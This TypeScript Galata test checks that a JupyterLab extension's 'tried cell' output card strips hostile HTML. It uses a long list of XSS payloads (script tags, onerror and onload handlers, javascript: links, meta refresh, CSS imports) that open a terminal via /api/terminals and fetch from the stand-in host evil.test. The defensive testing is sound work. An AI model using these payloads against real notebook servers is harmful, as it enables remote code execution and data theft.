import { expect, test } from '@jupyterlab/galata';

import { Notebook } from './notebook';

/** Opens a terminal through Jupyter's own API, and leaves a mark, in every way that a page offers. */
const ATTACK =
  "window.hit=1;fetch('/api/terminals',{method:'POST'});fetch('https://evil.test/script')";

const CANDIDATE = `
from IPython.display import HTML, SVG, Image, Javascript, Markdown, display
attack = ${JSON.stringify(ATTACK)}
print(f'<script>{attack}</script><img src=x onerror="{attack}">')
display(HTML(f'<p>kept</p><script>{attack}</script><img src="/api/terminals" onerror="{attack}">'))
display(HTML(f'<iframe srcdoc="<script>{attack}</script>"></iframe><iframe src="https://evil.test/frame"></iframe>'))
display(HTML('<img src="https://evil.test/a.png"><p style="background:url(https://evil.test/b.png)">x</p>'))
display(HTML('<style>@import url("https://evil.test/c.css"); .jp-bolt-Button { display: none }</style>'))
display(HTML('<link rel=stylesheet href="https://evil.test/d.css"><link rel=prefetch href="https://evil.test/e">'))
display(HTML('<meta http-equiv=refresh content="0;url=https://evil.test/f"><base href="https://evil.test/">'))
display(HTML(f'<form action="/api/terminals" method=post><button id=bait>bait</button></form>'))
display(HTML(f'<a href="javascript:{attack}">link</a><details open ontoggle="{attack}">d</details>'))
display(HTML('<video src="https://evil.test/g" poster="https://evil.test/h" autoplay></video>'))
display(HTML('<a data-commandlinker-command="terminal:create-new" href="#">command</a>'))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{attack}"><script>{attack}</script><image href="https://evil.test/i.png"/></svg>'))
display(Javascript(attack))
display(Markdown(f'<script>{attack}</script>![](https://evil.test/j.png)'))
display({'text/html': f'<img src=x onerror="{attack}">', 'text/plain': attack}, raw=True)
class Evil:
    def __repr__(self):
        return f'<img src=x onerror="{attack}">'
evil = Evil()
`;

test('what a tried cell shows can do nothing', async ({ page, request, baseURL }) => {
  const notebook = new Notebook(page);
  await notebook.create();
  const reached: string[] = [];
  page.on('request', each => {
    if (/evil\.test|api\/terminals/.test(each.url())) {
      reached.push(`${each.method()} ${each.url()}`);
    }
  });
  const before = (await (await request.get(`${baseURL}/api/terminals`)).json()) as unknown[];
  reached.length = 0;

  await notebook.source(0).fill(CANDIDATE);
  await notebook.command('jupyter-bolt:try-cell');
  const card = notebook.card(0, 'Tried cell');
  await expect(card.getByRole('status')).toContainText(/^Ran · /, { timeout: 40_000 });
  await expect(card).toContainText('kept');
  await expect(card).toContainText('<script>');
  await card.getByText('link', { exact: true }).click();
  await card.getByText('command', { exact: true }).click();
  const bait = card.getByText('bait');
  if ((await bait.count()) > 0) {
    await bait.click();
  }
  // Whatever was going to load has been asked for once the page is still.
  await page.waitForLoadState('networkidle');

  await expect(
    card.locator('script, iframe, form, style, link, meta, base, object, embed, svg script')
  ).toHaveCount(0);
  await expect(
    card.locator('[onerror], [onload], [href], [data-commandlinker-command]')
  ).toHaveCount(0);
  await expect(card.getByRole('button', { name: 'Close' })).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined();
  expect(reached.filter(url => url.includes('evil.test') || url.startsWith('POST'))).toEqual([]);
  const after = (await (await request.get(`${baseURL}/api/terminals`)).json()) as unknown[];
  expect(after).toEqual(before);
});
